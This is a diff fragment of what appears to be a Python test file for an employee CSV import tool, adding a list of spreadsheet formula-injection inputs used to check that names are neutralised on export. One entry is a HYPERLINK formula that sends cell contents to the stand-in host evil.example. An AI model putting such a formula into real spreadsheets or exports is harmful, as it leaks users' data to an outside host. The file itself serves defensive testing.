@@ -35,6 +35,16 @@ from models import (
 
 NIP_BUDI = "198609262015051001"
 NIP_SITI = "199001012015052002"
+# Names that Excel or LibreOffice would run as formulas if written as typed.
+HOSTILE = [
+    '=HYPERLINK("https://evil.example/?d="&B4&C4,"Budi")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1",
+    "\r=1",
+    "=1",
+]
 # The columns of templates/employees.csv, in its order (an import file as BKPSDM writes it).
 EMPLOYEE_HEADER = [
     "NIP",
